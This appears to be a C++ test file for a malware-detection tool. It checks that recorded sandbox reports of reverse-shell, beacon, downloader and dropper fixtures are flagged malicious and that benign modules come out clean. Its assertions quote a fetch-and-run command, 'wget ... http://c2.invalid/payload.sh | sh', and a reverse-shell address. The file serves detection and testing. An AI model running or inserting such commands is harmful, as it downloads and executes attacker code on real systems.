// Verdicts of reports the real pipeline produced from fixture modules (copied from runs
// into data/): each malicious fixture is judged malicious with the expected rule, the
// benign ones clean. Also the shipped rules load, and the summary stays short.
#include <gtest/gtest.h>

#include <algorithm>
#include <fstream>
#include <iostream>
#include <set>
#include <sstream>

#include "detect/summary.h"
#include "detect/verdict.h"

namespace gs::detect {
namespace {

nlohmann::json load_report(const std::string& name) {
  std::ifstream in(std::string(GS_DETECT_DATA) + "/" + name + ".report.json");
  EXPECT_TRUE(in) << name;
  return nlohmann::json::parse(in);
}

const RuleSet& shipped_rules() {
  static RuleSet rules = [] {
    auto r = RuleSet::load_dir(GS_RULES_DIR);
    if (!r) ADD_FAILURE() << r.error().message();
    return r ? std::move(*r) : RuleSet{};
  }();
  return rules;
}

std::string describe(const Verdict& v) {
  std::ostringstream o;
  o << v.verdict << " " << v.score << "\n";
  for (const auto& f : v.findings)
    o << "  " << f.rule << " [" << f.phase << "] " << f.summary << "\n";
  return o.str();
}

bool has_rule(const Verdict& v, const std::string& rule, const std::string& phase = "") {
  for (const auto& f : v.findings)
    if (f.rule == rule && (phase.empty() || f.phase == phase)) return true;
  return false;
}

TEST(ShippedRules, LoadAndCoverEveryMatcher) {
  const RuleSet& rules = shipped_rules();
  ASSERT_GE(rules.rules().size(), 30u);
  std::set<MatchKind> kinds;
  for (const auto& r : rules.rules()) kinds.insert(r.match);
  for (MatchKind k :
       {MatchKind::exec, MatchKind::file, MatchKind::write_then_exec, MatchKind::mass_delete,
        MatchKind::connect, MatchKind::dns, MatchKind::dns_tunnel, MatchKind::beacon,
        MatchKind::denied, MatchKind::honeytoken_read, MatchKind::exfil, MatchKind::listen})
    EXPECT_TRUE(kinds.contains(k)) << match_kind_name(k);
}

struct Expect {
  const char* report;
  const char* verdict;
  const char* rule;  // must fire (empty: none required)
  const char* phase;
};

class RecordedReport : public ::testing::TestWithParam<Expect> {};

TEST_P(RecordedReport, IsJudgedAsExpected) {
  const Expect& e = GetParam();
  auto report = load_report(e.report);
  Verdict v = evaluate(shipped_rules(), report, Honeytokens{}, ExfilScan{});
  EXPECT_EQ(v.verdict, e.verdict) << describe(v);
  if (*e.rule) {
    EXPECT_TRUE(has_rule(v, e.rule, e.phase)) << describe(v);
  }
  if (std::string(e.verdict) == "clean") {
    EXPECT_TRUE(v.findings.empty() || v.score < kSuspiciousScore) << describe(v);
  }
  for (const auto& f : v.findings) {
    EXPECT_FALSE(f.summary.empty());
    EXPECT_NE(f.phase, "build");
    EXPECT_NE(f.phase, "plan");
  }
}

INSTANTIATE_TEST_SUITE_P(
    Samples, RecordedReport,
    ::testing::Values(Expect{"revshell", "malicious", "beacon-init-run", "init"},
                      Expect{"revshell", "malicious", "network-in-init", "init"},
                      Expect{"httpbeacon", "malicious", "beacon-init-run", "init"},
                      Expect{"httpbeacon", "malicious", "dns-in-init", "init"},
                      Expect{"shloader", "malicious", "shell-downloader-pipe", "init"},
                      Expect{"shloader", "malicious", "downloader-started", "init"},
                      Expect{"dropexec", "malicious", "dropper-exec-init", "init"},
                      Expect{"memfdexec", "malicious", "fileless-exec", "init"},
                      Expect{"testonly", "clean", "", ""}, Expect{"uuid", "clean", "", ""}),
    [](const auto& info) {
      std::string name = std::string(info.param.report) + "_" +
                         (*info.param.rule ? std::string(info.param.rule) : std::string("none"));
      std::replace(name.begin(), name.end(), '-', '_');
      return name;
    });

TEST(RecordedReport, FindingsCarryEvidenceChainsAndDestinations) {
  Verdict shl = evaluate(shipped_rules(), load_report("shloader"), Honeytokens{}, ExfilScan{});
  const Finding* pipe = nullptr;
  for (const auto& f : shl.findings)
    if (f.rule == "shell-downloader-pipe") pipe = &f;
  ASSERT_NE(pipe, nullptr);
  EXPECT_EQ(pipe->attack, "T1059.004");
  EXPECT_EQ(pipe->severity, "critical");
  EXPECT_EQ(pipe->evidence, std::vector<uint64_t>{7848});
  ASSERT_EQ(pipe->process_chain.size(), 2u);
  EXPECT_EQ(pipe->process_chain[0], "/work/out/initrunner");
  EXPECT_NE(pipe->summary.find("wget -q -O - http://c2.invalid/payload.sh | sh"),
            std::string::npos);
  EXPECT_EQ(shl.findings.front().rule, "shell-downloader-pipe");  // strongest first

  Verdict rev = evaluate(shipped_rules(), load_report("revshell"), Honeytokens{}, ExfilScan{});
  for (const auto& f : rev.findings)
    if (f.rule == "beacon-init-run") {
      EXPECT_EQ(f.destination, "203.0.113.10:4444");
    }
  EXPECT_GE(rev.score, kMaliciousScore);
  auto j = rev.findings_json();
  ASSERT_TRUE(j.is_array());
  for (const auto& f : j)
    for (const char* key : {"rule", "severity", "phase", "summary", "evidence", "attack",
                            "process_chain", "destination"})
      EXPECT_TRUE(f.contains(key)) << key;
}

TEST(Summary, MaliciousReportFitsOnAScreenAndShowsTheTree) {
  auto report = load_report("shloader");
  Verdict v = evaluate(shipped_rules(), report, Honeytokens{}, ExfilScan{});
  report["verdict"] = v.verdict;
  report["score"] = v.score;
  report["findings"] = v.findings_json();
  std::string plain = summary_text(report, "out/report.json", false);
  size_t lines = std::count(plain.begin(), plain.end(), '\n');
  EXPECT_LE(lines, 25u) << plain;
  EXPECT_NE(plain.find("MALICIOUS"), std::string::npos) << plain;
  EXPECT_NE(plain.find("wget -q -O - http://c2.invalid/payload.sh"), std::string::npos) << plain;
  EXPECT_NE(plain.find("c2.invalid:80"), std::string::npos) << plain;
  EXPECT_NE(plain.find("report:    out/report.json"), std::string::npos);
  EXPECT_EQ(plain.find('\033'), std::string::npos) << "no colour unless asked";
  std::string color = summary_text(report, "", true);
  EXPECT_NE(color.find("\033[1;31mMALICIOUS"), std::string::npos);
  std::cout << plain;
}

TEST(Summary, BeaconScoresAndAbsentTraceAreShown) {
  auto report = load_report("revshell");
  std::string text = summary_text(report, "", false);
  EXPECT_NE(text.find("203.0.113.10:4444"), std::string::npos) << text;
  EXPECT_NE(text.find("beacon 1.00"), std::string::npos) << text;
  // Two programs beaconing to one destination: the stronger series, its program, and a count.
  auto twice = report;
  auto& beacons = twice["network"]["beacons"];
  ASSERT_FALSE(beacons.empty());
  auto weaker = beacons[0];
  beacons[0]["program"] = "/work/out/initrunner";
  weaker["program"] = "/usr/bin/curl";
  weaker["score"] = 0.4;
  beacons.push_back(weaker);
  std::string both = summary_text(twice, "", false);
  EXPECT_NE(both.find("by initrunner (+1 more)"), std::string::npos) << both;
  std::string uuid = summary_text(load_report("uuid"), "", false);
  EXPECT_NE(uuid.find("trace:     absent"), std::string::npos) << uuid;
  EXPECT_NE(uuid.find("CLEAN"), std::string::npos) << uuid;
}

}  // namespace
}  // namespace gs::detect
